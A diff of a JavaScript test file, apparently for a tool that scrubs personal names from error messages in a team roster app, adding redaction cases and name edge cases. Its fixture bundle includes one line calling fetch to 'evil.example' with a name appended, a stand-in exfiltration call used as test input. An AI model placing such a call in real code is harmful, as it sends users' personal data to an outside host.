@@ -7,7 +7,7 @@ const built = [
   "class e extends Error{constructor(t){super(t);this.name='RosterError'}}",
   'const f=(t,n)=>{throw Error(`No se pudo guardar a ${t}, DNI ${n}, tel `+n+`, `+t)};',
   'const g=t=>{throw new e(`jugador ${t} no existe`)};const h=t=>{throw Error("Equipo "+t+": sin promoción")};',
-  'throw Error("Fallo al dibujar");throw "offline";const i={players:[],playerName:"",rosa:1};',
+  'throw Error("Fallo al dibujar");throw "offline";const i={players:[],playerName:"",rosa:1};const j=(t,n)=>t+" rosa "+n;',
   'const p={label:"Ej.: Juan Pérez",example:"María Gómez",first:"Rosa ",group:"Senior"};fetch("https://evil.example/a?name="+t);',
   'throw Error("Failed to fetch roster: undefined is not iterable");document.createElement("div");',
 ].join('\n')
@@ -40,6 +40,7 @@ describe('what a browser or the own code says stays readable', () => {
 
   test.each([
     ['jugador Juan Perez no existe', 'jugador … no existe'],
+    ['Error: el rosa', 'Error: …'],
     ['RosterError: jugador martin lopez no existe', 'RosterError: jugador … no existe'],
     ['Error: Equipo 12: sin promoción', 'Error: Equipo …: sin promoción'],
     ['Error: jugador rosa no existe', 'Error: jugador … no existe'],
@@ -70,6 +71,8 @@ const personal = [
   ['a decomposed name', 'Mari\u0301a Gome\u0301z', 'Mari'],
   ['a name that the code has as an example', 'María Gómez', 'Gómez'],
   ['a name of which the code has a part', 'Rosa Senior', 'Rosa'],
+  ['a name of two names of the code', 'rosa players', 'rosa'],
+  ['a name with a word of the code in the middle', 'Ana rosa Gómez', 'rosa'],
   ['a hyphenated name', 'Pérez-Gómez', 'Gómez'],
   ['a name with a hump', 'McDonald', 'McDonald'],
   ['a foreign name', '李小龍', '李'],
